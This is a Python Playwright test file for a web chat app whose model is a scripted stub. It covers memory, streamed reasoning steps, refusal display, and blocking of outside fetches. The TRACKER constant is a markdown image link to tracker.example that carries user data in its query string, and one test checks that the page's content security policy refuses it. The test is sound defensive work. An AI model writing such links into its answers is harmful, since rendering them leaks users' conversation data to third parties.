"""The web chat in a real browser, before a model that answers over HTTP by script."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from threading import Event
from typing import Any

import pytest
from playwright.async_api import Locator, Page, Request, async_playwright, expect

from tests.flows.cli.bench import obedient
from tests.flows.openai_stub import OpenAIStub, Said, at_the_proxy, openai_stub
from tests.flows.served import Served, web_chat

FACT = "My cat Mog drinks green tea"
OPINION = "Mog has taste, since green tea is good"
TRACKER = "![x](http://tracker.example/x.png?about=Mog)"
PATIENCE = 60_000  # milliseconds that a busy machine may take for anything


class Halting(list[str]):
    """Pieces of a reply, the last of which come only once `go_on` is set."""

    def __init__(self, pieces: list[str], go_on: Event) -> None:
        super().__init__(pieces)
        self._go_on = go_on

    def __iter__(self) -> Iterator[str]:
        for place in range(len(self)):
            if place == len(self) // 2:
                self._go_on.wait(PATIENCE / 1000)
            yield self[place]


@dataclass(frozen=True)
class Halted(Said):
    """A reply that stops half-way until `go_on` is set."""

    go_on: Event = field(default_factory=Event)

    @property
    def pieces(self) -> list[str]:
        return Halting(super().pieces, self.go_on)


@dataclass
class Chat:
    """The page, the model behind its server, and what the page wanted from other machines."""

    page: Page
    url: str
    model: OpenAIStub
    fetched: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)

    async def say(self, text: str) -> None:
        box = self.page.get_by_role("textbox", name="Message")
        await box.fill(text)
        await box.press("Enter")

    async def shows(self, text: str) -> Locator:
        """The one place where this can be read, once it can."""
        place = self.page.get_by_text(text)
        await expect(place).to_be_visible(timeout=PATIENCE)
        return place

    def note(self, request: Request) -> None:
        if request.url.startswith(self.url):
            return
        (self.refused if request.failure == "csp" else self.fetched).append(request.url)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, OpenAIStub]]:
    folder = tmp_path_factory.mktemp("web")
    with openai_stub(obedient) as model:
        settings = {"FORETHOUGHT_DATA_DIR": str(folder / "data"), **at_the_proxy(model)}
        with web_chat(folder, settings) as server:
            yield server, model
        print(server.said()[-4000:])
    assert model.proxied == [], "the server went out to the world"


@pytest.fixture
async def chat(chromium: str, served: tuple[Served, OpenAIStub]) -> AsyncIterator[Chat]:
    server, model = served
    model.script = obedient
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=chromium,
            args=["--no-sandbox"],  # which root, as in CI, cannot have
        )
        chat = Chat(await browser.new_page(), server.url, model)
        for event in ("requestfinished", "requestfailed"):
            chat.page.on(event, chat.note)
        await chat.page.goto(server.url, timeout=PATIENCE)
        yield chat
        await browser.close()
    assert chat.fetched == []


async def test_what_is_said_is_remembered_and_an_answer_shows_its_steps_as_it_streams(
    chat: Chat,
) -> None:
    await chat.say(FACT)
    await chat.shows("Who knows.")
    await chat.page.get_by_role("button", name="Remember now").click()
    await chat.shows("Retained 1 new facts.")

    halted = Event()

    def slowly(schema: str, request: dict[str, Any]) -> Said | str:
        said = obedient(schema, request)
        return said if schema else Halted(said, go_on=halted)

    chat.model.script = slowly
    await chat.page.get_by_label("prospect").check()
    await chat.say("What does the cat drink?")
    # exactly: what was asked says "the cat", too
    await expect(chat.page.get_by_text("The cat", exact=True)).to_be_visible(timeout=PATIENCE)
    await expect(chat.page.get_by_text("likes tea")).to_have_count(0)
    for step in ("views", "imagine", "probe", "refine", "summarise"):
        await expect(chat.page.get_by_text(f"{step}: ").last).to_be_visible()
    halted.set()
    await chat.shows("The cat likes tea [f")
    await (await chat.shows("rests on 1 facts and turns")).click()
    await chat.shows(f"{FACT} (")
    await (await chat.shows("opinions formed")).click()
    await chat.shows(OPINION)


async def test_nothing_that_a_model_writes_makes_the_page_fetch_from_elsewhere(chat: Chat) -> None:
    chat.model.script = lambda schema, request: obedient(schema, request) if schema else TRACKER
    await chat.say("Show me the cat")
    await expect(chat.page.locator("img[alt=x]")).to_be_attached(timeout=PATIENCE)
    assert chat.refused == ["http://tracker.example/x.png?about=Mog"]


async def test_a_model_that_refuses_is_told_on_the_page(chat: Chat) -> None:
    chat.model.script = lambda schema, request: Said("the key is wrong", status=401)
    await chat.say("What does the cat drink?")
    await chat.shows("Not answered:")
